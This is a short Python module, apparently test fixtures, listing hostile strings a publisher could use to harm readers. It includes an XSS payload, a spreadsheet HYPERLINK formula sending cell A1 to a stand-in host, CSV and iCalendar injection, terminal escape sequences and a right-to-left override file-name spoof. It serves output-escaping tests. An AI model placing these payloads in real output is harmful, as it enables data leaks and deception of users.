"""Texts that a publisher could write to harm a reader or program, one for each kind of harm."""

from __future__ import annotations

HOSTILE = {
    "page": "</script><img src=x onerror=alert(1)>&amp;\"'<!-- ]]>",
    "formula": '=HYPERLINK("http://x.example/"&A1;"win")',
    "others": "+1;=2\t@SUM(A1)\r\n-3\n'4;  =5",
    "lines": "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\nb\rc\u2028d\u2029e\x85f\x0bg",
    "controls": "\0\x01\x07\x08\x1a\x1b[2J\x1b]0;title\x07\x7f\x9b",
    "directions": "\u202egpj.exe\u2066\u200f\u202c",
    "halves": "\ud800 \udfff \U0001f37a",
    "long": "x" * 10_000,
    "long words": "Ł \U0001f37a" * 2_500,
    "json": '{"a": [1, "\\u0000"]}\\',
    "empty": " ",
}
